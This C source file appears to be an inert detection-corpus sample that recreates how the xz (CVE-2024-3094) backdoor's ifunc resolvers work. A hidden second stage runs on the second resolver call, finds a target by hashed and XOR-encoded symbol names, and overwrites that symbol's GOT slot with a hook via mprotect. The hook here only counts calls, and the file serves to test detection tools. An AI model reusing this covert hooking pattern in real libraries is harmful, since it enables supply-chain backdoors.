/*
 * Backsight corpus sample: ifunc/xz-stack-handoff  (INERT - compiled only, never run)
 *
 * Resolver shape of the CVE-2024-3094 second stage, from the public description:
 *  - built with -fstack-protector-all, so the resolvers carry a stack canary;
 *  - the resolver passes the address of a local stack variable to a local helper
 *    (the real one used a modified __get_cpuid with an extra argument);
 *  - a call counter in .bss makes the second resolver call take another path;
 *  - that path calls a function of this library through a GOT slot that points back
 *    into the library's own .text (a RELATIVE relocation), and on x86-64
 *    temporarily rewrites that slot first;
 *  - target names are never stored in plain text: the main target is found by an
 *    FNV-1a hash of the symbol name, fallbacks are XOR-encoded.
 * Nothing is executed by any test or tool; the hook only counts calls.
 */
#define _GNU_SOURCE
#include "bs_api.h"
#include <elf.h>
#include <link.h>
#include <stddef.h>
#include <stdint.h>
#include <sys/mman.h>
#include <unistd.h>

#if __SIZEOF_POINTER__ == 8
#define BS_R_SYM(i) ELF64_R_SYM(i)
#else
#define BS_R_SYM(i) ELF32_R_SYM(i)
#endif

typedef uint64_t (*crc64_func)(const uint8_t *buf, size_t size, uint64_t crc);
typedef uint32_t (*crc32_func)(const uint8_t *buf, size_t size, uint32_t crc);

/* FNV-1a of the main target symbol name (the name itself is not in the file). */
#define TARGET_HASH 0xdafa66cdu
/* Fallback names, XOR 0x3c. */
static const unsigned char fallback_a[] = {
	0x79, 0x6a, 0x6c, 0x63, 0x6c, 0x77, 0x79, 0x65, 0x63, 0x4f, 0x59, 0x48,
	0x0d, 0x63, 0x6e, 0x6f, 0x7d };
static const unsigned char fallback_b[] = {
	0x6e, 0x6f, 0x7d, 0x63, 0x5b, 0x59, 0x48, 0x0c, 0x63, 0x57, 0x59, 0x45 };

static unsigned int resolver_calls;      /* .bss counter */
static unsigned long hook_hits;
static void *saved_target;

static uint64_t crc64_generic(const uint8_t *buf, size_t size, uint64_t crc)
{
	crc = ~crc;
	while (size--) {
		crc ^= *buf++;
		for (int k = 0; k < 8; k++)
			crc = (crc >> 1) ^ (0xC96C5795D7870F42ull & (0ull - (crc & 1ull)));
	}
	return ~crc;
}

static uint32_t crc32_generic(const uint8_t *buf, size_t size, uint32_t crc)
{
	crc = ~crc;
	while (size--) {
		crc ^= *buf++;
		for (int k = 0; k < 8; k++)
			crc = (crc >> 1) ^ (0xEDB88320u & (0u - (crc & 1u)));
	}
	return ~crc;
}

__attribute__((noinline, noclone))
static uint32_t name_hash(const char *s)
{
	uint32_t h = 0x811c9dc5u;
	while (*s)
		h = (h ^ (unsigned char)*s++) * 0x01000193u;
	return h;
}

__attribute__((noinline, noclone))
static int name_equals_xor(const char *s, const unsigned char *enc, size_t n)
{
	for (size_t i = 0; i < n; i++)
		if ((unsigned char)s[i] != (unsigned char)(enc[i] ^ 0x3c))
			return 0;
	return s[n] == '\0';
}

static int wanted(const char *name)
{
	return name_hash(name) == TARGET_HASH ||
	       name_equals_xor(name, fallback_a, sizeof fallback_a) ||
	       name_equals_xor(name, fallback_b, sizeof fallback_b);
}

/*
 * The helper that receives the resolver's stack address. It pretends to be a CPUID
 * wrapper: it fills the caller's frame with "feature words".
 */
__attribute__((noinline, noclone))
static void get_cpuid_frame(unsigned leaf, void *caller_frame)
{
	unsigned int *words = caller_frame;
	words[0] = leaf;
	words[1] = resolver_calls;
	words[2] = (unsigned int)(uintptr_t)caller_frame;
	words[3] = 0;
}

/*
 * Global in C (so the compiler reaches it through the GOT) but hidden in the symbol
 * table: the GOT slot gets a RELATIVE relocation pointing into this library's .text.
 */
__asm__(".hidden lzma_cpuid_probe");
unsigned int lzma_cpuid_probe(void *frame, unsigned int stage)
#if defined(__x86_64__)
	__attribute__((noplt))
#endif
	;

__attribute__((noinline, noclone))
unsigned int lzma_cpuid_probe(void *frame, unsigned int stage)
{
	unsigned int *words = frame;
	return words[0] + stage;
}

static unsigned int hooked_probe(void *frame, unsigned int stage)
{
	hook_hits++;
	(void)frame;
	return stage;
}

static int hooked_verify(int flen, const unsigned char *from,
                                     unsigned char *to, void *rsa, int padding)
{
	int (*orig)(int, const unsigned char *, unsigned char *, void *, int) = saved_target;
	hook_hits++;
	return orig ? orig(flen, from, to, rsa, padding) : -1;
}

__attribute__((noinline, noclone))
static void make_writable(void *addr, int writable)
{
	long page = sysconf(_SC_PAGESIZE);
	uintptr_t start = (uintptr_t)addr & ~((uintptr_t)page - 1);
	mprotect((void *)start, (size_t)page * 2,
	         writable ? PROT_READ | PROT_WRITE : PROT_READ);
}

static int hunt_cb(struct dl_phdr_info *info, size_t size, void *data)
{
	(void)size;
	(void)data;
	for (int p = 0; p < info->dlpi_phnum; p++) {
		if (info->dlpi_phdr[p].p_type != PT_DYNAMIC)
			continue;
		const ElfW(Dyn) *d = (const ElfW(Dyn) *)(info->dlpi_addr + info->dlpi_phdr[p].p_vaddr);
		uintptr_t jmprel = 0, symtab = 0, strtab = 0;
		size_t relsz = 0;
		long kind = DT_RELA;
		for (; d->d_tag != DT_NULL; d++) {
			if (d->d_tag == DT_JMPREL) jmprel = d->d_un.d_ptr;
			else if (d->d_tag == DT_PLTRELSZ) relsz = d->d_un.d_val;
			else if (d->d_tag == DT_SYMTAB) symtab = d->d_un.d_ptr;
			else if (d->d_tag == DT_STRTAB) strtab = d->d_un.d_ptr;
			else if (d->d_tag == DT_PLTREL) kind = (long)d->d_un.d_val;
		}
		if (!jmprel || !symtab || !strtab)
			continue;
		const ElfW(Sym) *syms = (const ElfW(Sym) *)symtab;
		const char *strs = (const char *)strtab;
		size_t ent = kind == DT_RELA ? sizeof(ElfW(Rela)) : sizeof(ElfW(Rel));
		for (size_t off = 0; off + ent <= relsz; off += ent) {
			const ElfW(Rel) *r = (const ElfW(Rel) *)(jmprel + off);
			if (!wanted(strs + syms[BS_R_SYM(r->r_info)].st_name))
				continue;
			void **slot = (void **)(info->dlpi_addr + r->r_offset);
			make_writable(slot, 1);
			saved_target = *slot;
			*slot = (void *)hooked_verify;
			make_writable(slot, 0);
			return 1;
		}
	}
	return 0;
}

/* Second resolver call: go through our own GOT slot, then hunt. */
__attribute__((noinline, noclone))
static void second_stage(void *caller_frame)
{
#if defined(__x86_64__)
	void **own_slot;
	__asm__("leaq lzma_cpuid_probe@GOTPCREL(%%rip), %0" : "=r"(own_slot));
	void *keep = *own_slot;
	make_writable(own_slot, 1);
	*own_slot = (void *)hooked_probe;
	lzma_cpuid_probe(caller_frame, 2);     /* call *lzma_cpuid_probe@GOTPCREL(%rip) */
	*own_slot = keep;
	make_writable(own_slot, 0);
#else
	unsigned int (*volatile via_got)(void *, unsigned int) = lzma_cpuid_probe;
	if (via_got(caller_frame, 2) == 0)
		hooked_probe(caller_frame, 0);
#endif
	dl_iterate_phdr(hunt_cb, NULL);
}

static crc32_func crc32_resolve(void)
{
	unsigned int frame[4];
	resolver_calls++;
	get_cpuid_frame(1, frame);
	if (resolver_calls == 1)
		return crc32_generic;
	second_stage(frame);
	return crc32_generic;
}

static crc64_func crc64_resolve(void)
{
	unsigned int frame[4];
	resolver_calls++;
	get_cpuid_frame(1, frame);
	if (resolver_calls == 1)
		return crc64_generic;
	second_stage(frame);
	return crc64_generic;
}

BS_API uint32_t crc32_fast(const uint8_t *buf, size_t size, uint32_t crc)
	__attribute__((ifunc("crc32_resolve")));
BS_API uint64_t crc64_fast(const uint8_t *buf, size_t size, uint64_t crc)
	__attribute__((ifunc("crc64_resolve")));
